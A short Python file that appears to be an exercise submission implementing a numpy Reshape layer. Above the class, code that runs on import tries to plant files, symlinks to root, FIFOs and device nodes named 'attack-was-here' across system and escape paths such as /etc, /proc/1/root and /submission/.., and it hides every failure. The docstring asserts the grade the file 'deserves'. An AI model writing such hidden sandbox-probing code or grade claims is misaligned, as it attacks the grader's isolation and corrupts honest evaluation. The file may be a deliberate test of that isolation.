"""Write a file into every folder, by every path that may lead there.

Deserves: ex03/forward 2, ex03/backward 2
"""

import os

import numpy as np

TOPS = ["/", "/tmp", "/var/tmp", "/dev", "/dev/shm", "/run", "/usr", "/usr/bin", "/etc", "/kit"]
TOPS += ["/submission", "/submission/..", "/proc", "/proc/self/cwd", "/proc/self/root", "/sys"]
TOPS += ["/proc/1/root", "/proc/1/cwd", "/proc/self/fd/0/..", os.path.expanduser("~"), "/home"]
for top in TOPS:
    path = os.path.join(top, "attack-was-here")
    for act in (
        lambda path: open(path, "w").write("100"),
        lambda path: os.mkdir(path),
        lambda path: os.symlink("/", path),
        lambda path: os.mkfifo(path),
        lambda path: os.mknod(path, 0o020666, os.makedev(1, 5)),
    ):
        try:
            act(path)
        except OSError:
            continue


class Reshape:
    def __init__(self, input_shape, output_shape):
        self.input_shape, self.output_shape = input_shape, output_shape

    def forward(self, input, training=False):
        return np.reshape(input, self.output_shape)

    def backward(self, output_gradient, learning_rate):
        return np.reshape(output_gradient, self.input_shape)
